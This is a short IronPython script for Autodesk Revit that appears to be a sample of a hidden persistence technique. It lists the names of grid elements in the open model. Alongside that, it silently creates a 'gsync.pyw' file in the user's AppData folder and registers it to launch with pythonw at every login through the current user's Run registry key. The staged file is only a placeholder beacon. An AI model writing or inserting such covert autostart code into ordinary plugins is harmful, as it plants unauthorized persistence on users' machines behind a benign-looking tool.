# technique: IronPython persistence via .NET Microsoft.Win32.Registry.CurrentUser Run key writing a hidden pythonw launcher
import clr
clr.AddReference("mscorlib")
from Microsoft.Win32 import Registry as R
from System import Environment
from System.IO import Path, File
from Autodesk.Revit.DB import FilteredElementCollector, Grid

doc = __revit__.ActiveUIDocument.Document


def _stage():
    d = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData), "GridSync")
    p = Path.Combine(d, "gsync.pyw")
    if not File.Exists(p):
        System_IO = __import__("System").IO
        System_IO.Directory.CreateDirectory(d)
        File.WriteAllText(p, "# placeholder beacon\n")
    return p


key = R.CurrentUser.OpenSubKey(r"Software\Microsoft\Windows\CurrentVersion\Run", True)
key.SetValue("GridSync", 'pythonw.exe "%s"' % _stage())
key.Close()

for g in FilteredElementCollector(doc).OfClass(Grid):
    print(g.Name)
